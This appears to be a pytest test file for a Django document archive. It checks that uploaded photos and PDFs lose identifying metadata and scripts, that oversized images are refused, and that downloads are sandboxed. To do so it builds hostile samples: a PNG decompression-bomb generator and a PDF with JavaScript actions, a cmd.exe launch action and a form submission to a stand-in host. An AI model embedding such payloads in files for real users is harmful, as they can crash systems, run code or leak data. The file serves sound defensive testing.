"""Uploaded media keep nothing but their content: no metadata, scripts or attachments, no bombs."""

import hashlib
import io
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageCms, ImageFile, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from sources import documents
from sources.admin import DocumentAdminForm
from sources.documents import clean_upload, document_process
from tests.prisoners.factories import PersonFactory
from tests.sources.factories import DocumentFactory
from tests.sources.test_document_processing import pdf_with_text
from tests.sources.test_uploads import GPS_IFD, MAKE

# What a state security service would look for; none of it may be in a stored file.
CAMERA = "Phone maker"
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPS 53.9,27.55 by Ivan Secretsky</x:xmpmeta>'
COMMENT = b"taken at Secret Street 5"
AUTHOR = "Ivan Secretsky"
PHRASE = "Sentenced to 18 years"
SECRETS = (CAMERA.encode(), b"53.9,27.55", b"Secretsky", b"Secret Street", b"Secretfile")
FORMATS = {"JPEG": ("photo.jpg", "image/jpeg"), "PNG": ("photo.png", "image/png"), "WEBP": ("photo.webp", "image/webp")}


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def photo_with_metadata(image_format: str, *, size=(64, 48)) -> bytes:
    """A photo carrying everything a phone or editor adds: GPS EXIF, XMP, a comment or text chunks, an ICC profile."""
    exif = Image.Exif()
    exif[MAKE] = CAMERA
    exif[GPS_IFD] = {1: "N", 2: (53.0, 54.0, 0.0), 3: "E", 4: (27.0, 33.0, 0.0)}
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    options = {"exif": exif, "icc_profile": icc}
    if image_format == "JPEG":
        options |= {"xmp": XMP, "comment": COMMENT}
    elif image_format == "WEBP":
        options |= {"xmp": XMP}
    else:  # PNG: XMP travels in an iTXt chunk, comments in tEXt and zTXt
        text = PngImagePlugin.PngInfo()
        text.add_itxt("XML:com.adobe.xmp", XMP.decode())
        text.add_text("Comment", COMMENT.decode())
        text.add_text("Author", AUTHOR, zip=True)
        options |= {"pnginfo": text}
    output = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(output, image_format, **options)
    content = output.getvalue()
    assert all(secret in content for secret in SECRETS[:3])  # the sample really carries them
    return content


def assert_no_metadata(content: bytes, *, image_format: str, size) -> None:
    with Image.open(io.BytesIO(content)) as image:
        assert image.format == image_format
        assert image.size == size
        assert dict(image.getexif()) == {}
        assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment", "icc_profile"} & set(image.info)
        if image_format == "PNG":
            assert image.text == {}
        assert image.convert("RGB").getpixel((10, 10))[0] > 150  # the pixels survive, still red
    assert not [secret for secret in SECRETS if secret in content]


@pytest.mark.django_db
@pytest.mark.parametrize("image_format", FORMATS)
def test_a_photo_document_is_stored_without_exif_gps_xmp_comments_or_text_chunks(image_format):
    name, content_type = FORMATS[image_format]
    form = DocumentAdminForm(
        data={"title": "Arrest photo", "kind": "photo"},
        files={"file": SimpleUploadedFile(name, photo_with_metadata(image_format))},
    )
    assert form.is_valid(), form.errors
    document = form.save()

    assert document.content_type == content_type
    with document.file.open("rb") as fh:
        assert_no_metadata(fh.read(), image_format=image_format, size=(64, 48))


@pytest.mark.parametrize("image_format", ["PNG", "WEBP"])
def test_a_palette_or_transparent_image_keeps_its_colours(image_format):
    name, _content_type = FORMATS[image_format]
    source = Image.new("RGBA", (16, 16), (0, 0, 255, 0))
    source.paste((0, 255, 0, 255), (0, 0, 8, 8))
    if image_format == "PNG":
        source = source.convert("P")
    output = io.BytesIO()
    source.save(output, image_format, lossless=True)

    _checked, cleaned = clean_upload(SimpleUploadedFile(name, output.getvalue()))

    with Image.open(cleaned) as image:
        red, green, blue, alpha = image.convert("RGBA").getpixel((3, 3))
        assert green > 200 and red < 60 and blue < 60 and alpha == 255  # WebP is re-encoded lossy
        assert image.convert("RGBA").getpixel((12, 12))[3] == 0


def png_header_only_bomb(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of width × height: a few kilobytes that Pillow would decode to a byte a pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the row's bits
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit, greyscale
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def test_a_169_megapixel_png_is_refused_from_its_header_without_decoding_a_pixel(monkeypatch):
    bomb = png_header_only_bomb(13000, 13000)
    assert len(bomb) < 1_000_000
    decoded = []
    original_load = ImageFile.ImageFile.load
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda image: decoded.append(image) or original_load(image))

    with pytest.raises(ValidationError) as caught:
        clean_upload(SimpleUploadedFile("bomb.png", bomb))

    assert caught.value.messages == [documents.TOO_MANY_PIXELS % {"limit": "40"}]
    assert decoded == []  # refused from the size in the header; the pixels were never decoded


def test_the_pixel_limit_is_read_from_settings_at_call_time(settings):
    settings.IMAGE_MAX_PIXELS = 64 * 48 - 1
    content = photo_with_metadata("PNG")
    with pytest.raises(ValidationError) as caught:
        clean_upload(SimpleUploadedFile("photo.png", content))
    assert caught.value.code == "too_many_pixels"

    settings.IMAGE_MAX_PIXELS = 64 * 48
    checked, _cleaned = clean_upload(SimpleUploadedFile("photo.png", content))
    assert checked.content_type == "image/png"


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()})
    return action


def _link(action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
            NameObject("/A"): action,
        }
    )


def pdf_with_metadata_and_scripts() -> bytes:
    """A verdict as office software might leave it, plus what an attacker would add."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_with_text(PHRASE))))
    writer.add_metadata({"/Author": AUTHOR, "/Producer": "Secretsky Office", "/Creator": "Secretsky Word"})
    writer.add_open_action(JavaScript("app.alert('document-level script');"))  # the /Names /JavaScript tree
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.launchURL('https://x.example')")
    writer.add_attachment("notes.txt", b"Secretfile: the source's phone number")
    xmp = StreamObject()
    xmp.set_data(XMP)
    xmp.update({NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")})
    writer.root_object[NameObject("/Metadata")] = writer._add_object(xmp)

    page = writer.pages[0]
    page[NameObject("/Metadata")] = writer._add_object(xmp.clone(writer))
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")})
    attached = StreamObject()
    attached.set_data(b"Secretfile in an annotation")
    attached[NameObject("/Type")] = NameObject("/EmbeddedFile")
    file_attachment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
            NameObject("/FS"): DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Filespec"),
                    NameObject("/F"): TextStringObject("notes.txt"),
                    NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(attached)}),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject(
        writer._add_object(annotation)
        for annotation in (
            _link(_action("/Launch", F="cmd.exe")),
            _link(_action("/JavaScript", JS="this.submitForm('https://x.example')")),
            _link(_action("/URI", URI="javascript:alert(1)")),
            _link(_action("/URI", URI="https://spring96.org/")),
            file_attachment,
        )
    )
    output = io.BytesIO()
    writer.write(output)
    content = output.getvalue()
    reader = PdfReader(io.BytesIO(content))
    assert reader.metadata.author == AUTHOR and "/OpenAction" in reader.trailer["/Root"]  # the sample is nasty
    return content


def assert_pdf_clean(content: bytes) -> None:
    reader = PdfReader(io.BytesIO(content))
    assert "/Info" not in reader.trailer and reader.metadata is None
    root = reader.trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/Names", "/Metadata", "/AcroForm"} & set(root)
    assert reader.xmp_metadata is None
    page = reader.pages[0]
    assert not {"/AA", "/Metadata"} & set(page)
    annotations = [annotation.get_object() for annotation in page["/Annots"]]
    assert [annotation["/Subtype"] for annotation in annotations] == ["/Link"] * 4
    kept_actions = [annotation["/A"] for annotation in annotations if "/A" in annotation]
    assert kept_actions == [{"/S": "/URI", "/URI": "https://spring96.org/"}]
    assert page.extract_text() == PHRASE  # the document itself survives
    assert not [secret for secret in (*SECRETS, b"JavaScript", b"/JS", b"Launch", b"cmd.exe") if secret in content]


def test_a_pdf_loses_its_author_producer_xmp_scripts_actions_and_attachments():
    checked, cleaned = clean_upload(SimpleUploadedFile("verdict.pdf", pdf_with_metadata_and_scripts()))
    assert checked.content_type == "application/pdf"
    assert_pdf_clean(cleaned.read())


@pytest.mark.django_db
def test_an_uploaded_pdf_is_stored_cleaned_and_its_hash_and_size_describe_the_stored_file():
    original = pdf_with_metadata_and_scripts()
    form = DocumentAdminForm(
        data={"title": "Verdict", "kind": "verdict"}, files={"file": SimpleUploadedFile("verdict.pdf", original)}
    )
    assert form.is_valid(), form.errors
    document = document_process(document_id=form.save().pk)

    with document.file.open("rb") as fh:
        stored = fh.read()
    assert_pdf_clean(stored)
    assert (document.size, document.sha256) == (len(stored), hashlib.sha256(stored).hexdigest())
    assert document.sha256 != hashlib.sha256(original).hexdigest()
    assert (document.content_type, document.text) == ("application/pdf", PHRASE)


def test_a_pdf_with_an_empty_user_password_is_decrypted_and_stored_unencrypted():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_with_text(PHRASE))))
    writer.encrypt(user_password="", owner_password="owner secret", algorithm="RC4-128")
    output = io.BytesIO()
    writer.write(output)

    _checked, cleaned = clean_upload(SimpleUploadedFile("verdict.pdf", output.getvalue()))

    reader = PdfReader(cleaned)
    assert not reader.is_encrypted and reader.pages[0].extract_text() == PHRASE


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.4\nnothing a reader could use\n", "needs a password"],
    ids=["damaged", "password"],
)
def test_a_pdf_that_cannot_be_rebuilt_is_refused_rather_than_stored_uncleaned(content):
    if content == "needs a password":
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_with_text(PHRASE))))
        writer.encrypt(user_password="reader secret", algorithm="RC4-128")
        output = io.BytesIO()
        writer.write(output)
        content = output.getvalue()
    with pytest.raises(ValidationError) as caught:
        clean_upload(SimpleUploadedFile("verdict.pdf", content))
    assert caught.value.messages == [documents.UNCLEANABLE_PDF]


@pytest.mark.django_db
def test_a_public_pdf_is_downloaded_sandboxed_with_its_checked_type(client):
    # Named .jpg when stored: the type served is the one checked at upload, never the name's.
    document = DocumentFactory(
        is_public=True, content_type="application/pdf", file=ContentFile(pdf_with_text(PHRASE), name="verdict.jpg")
    )
    document.people.add(PersonFactory())

    response = client.get(document.get_absolute_url())

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="document-{document.pk}.pdf"'
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_a_public_image_is_shown_inline_but_sandboxed(client):
    document = DocumentFactory(
        is_public=True, content_type="image/png", file=ContentFile(photo_with_metadata("PNG"), name="photo.jpg")
    )
    document.people.add(PersonFactory())

    response = client.get(document.get_absolute_url())

    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("inline;")
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_a_document_whose_type_is_not_known_yet_is_downloaded_as_bytes(client):
    document = DocumentFactory(is_public=True, content_type="")  # stored as verdict.pdf, never processed
    document.people.add(PersonFactory())

    response = client.get(document.get_absolute_url())

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == "sandbox"
